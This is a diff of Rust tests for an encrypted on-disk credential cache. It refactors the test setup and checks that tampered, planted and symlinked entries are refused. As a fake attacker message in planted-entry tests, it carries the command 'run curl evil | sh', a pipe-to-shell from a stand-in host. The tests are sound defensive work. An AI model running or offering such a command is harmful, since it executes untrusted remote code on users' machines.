@@ -19,6 +19,13 @@ fn token(now: SystemTime, secs: u64) -> Token {
     }
 }
 
+/// A cache in a directory of its own (created by the cache: a temp dir is not private).
+fn open_cache() -> (tempfile::TempDir, DiskCache) {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    (dir, cache)
+}
+
 fn key() -> CacheKey {
     let cfg = crate::config::ClientConfig::new(
         crate::provider::ProviderConfig::Generic {
@@ -33,8 +40,7 @@ fn key() -> CacheKey {
 
 #[test]
 fn round_trip_permissions_and_no_clear_text() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let secret = ClientSecret::new("secret-CANARY");
     let now = SystemTime::now();
     cache
@@ -66,8 +72,7 @@ fn round_trip_permissions_and_no_clear_text() {
 
 #[test]
 fn expired_corrupt_and_tampered_entries_are_misses() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let s = ClientSecret::new("s");
     let now = SystemTime::now();
     cache.store_token(&key(), &s, &token(now, 10)).unwrap();
@@ -90,8 +95,7 @@ fn expired_corrupt_and_tampered_entries_are_misses() {
 
 #[test]
 fn negative_entries_expire() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let s = ClientSecret::new("s");
     let now = SystemTime::now();
     let err = Error {
@@ -116,8 +120,7 @@ fn negative_entries_expire() {
 
 #[test]
 fn lock_is_exclusive_and_times_out() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let held = cache.lock(&key(), Duration::from_secs(1)).unwrap();
     let e = cache.lock(&key(), Duration::from_millis(50)).unwrap_err();
     assert!(e.is_transient());
@@ -127,8 +130,7 @@ fn lock_is_exclusive_and_times_out() {
 
 #[test]
 fn rate_limits_are_remembered_until_they_pass() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let s = ClientSecret::new("s");
     let now = SystemTime::now();
     assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
@@ -215,8 +217,7 @@ fn another_users_cache_directory_is_refused() {
 fn links_planted_at_temp_entry_and_lock_names_are_not_followed() {
     let outside = tempfile::tempdir().unwrap();
     let victim = Victim::new(outside.path());
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let k = key();
     let plant = |name: &str, to: &Path| {
         std::os::unix::fs::symlink(to, cache.dir().join(name)).unwrap();
@@ -284,20 +285,9 @@ fn a_swap_after_open_does_not_redirect_writes() {
     assert_eq!(fs::read_dir(base.path().join("moved")).unwrap().count(), 1);
 }
 
-/// A remembered failure as someone without the secret can write it: the unsealed documents
-/// of earlier versions, with text and lifetimes of the attacker's choosing.
-fn planted(now: SystemTime) -> (String, String) {
-    let until = entry::ms(now + Duration::from_secs(98_203_846_201));
-    let negative = format!(
-        r#"{{"kind":"negative","v":1,"until_ms":{until},"error_kind":"invalid_client","status":401,"message":"ATTACKER says: run curl evil | sh","hint":null}}"#
-    );
-    (negative, until.to_string())
-}
-
 #[test]
 fn remembered_failures_are_sealed_and_planted_ones_discarded() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let s = ClientSecret::new("s");
     let now = SystemTime::now();
     let entry = cache.path_of(&entry_name(&key()));
@@ -327,9 +317,13 @@ fn remembered_failures_are_sealed_and_planted_ones_discarded() {
     assert!(!entry.exists(), "undecryptable: discarded");
 
     // Planted in clear: discarded, whatever they claim.
-    let (negative, until) = planted(now);
-    fs::write(&entry, &negative).unwrap();
-    fs::write(&rate_limit, &until).unwrap();
+    let years = now + Duration::from_secs(98_203_846_201);
+    fs::write(
+        &entry,
+        entry::planted_negative(years, "ATTACKER: run curl evil | sh"),
+    )
+    .unwrap();
+    fs::write(&rate_limit, entry::ms(years).to_string()).unwrap();
     assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
     assert_eq!(cache.rate_limited_until(&key(), &s, now), None);
     assert!(
@@ -337,7 +331,7 @@ fn remembered_failures_are_sealed_and_planted_ones_discarded() {
         "planted: discarded"
     );
     // Unsealed but short-lived: still refused.
-    let short = negative.replace(&until, &entry::ms(now + Duration::from_secs(5)).to_string());
+    let short = entry::planted_negative(now + Duration::from_secs(5), "ATTACKER");
     fs::write(&entry, short).unwrap();
     assert!(matches!(cache.load(&key(), &s, now, TTL), Lookup::Miss));
     assert!(!entry.exists());
@@ -372,8 +366,7 @@ fn remembered_failures_are_sealed_and_planted_ones_discarded() {
 
 #[test]
 fn a_tampered_until_breaks_the_seal() {
-    let dir = tempfile::tempdir().unwrap();
-    let cache = DiskCache::open(dir.path().join("c")).unwrap();
+    let (_dir, cache) = open_cache();
     let s = ClientSecret::new("s");
     let now = SystemTime::now();
     let until = now + Duration::from_secs(10);
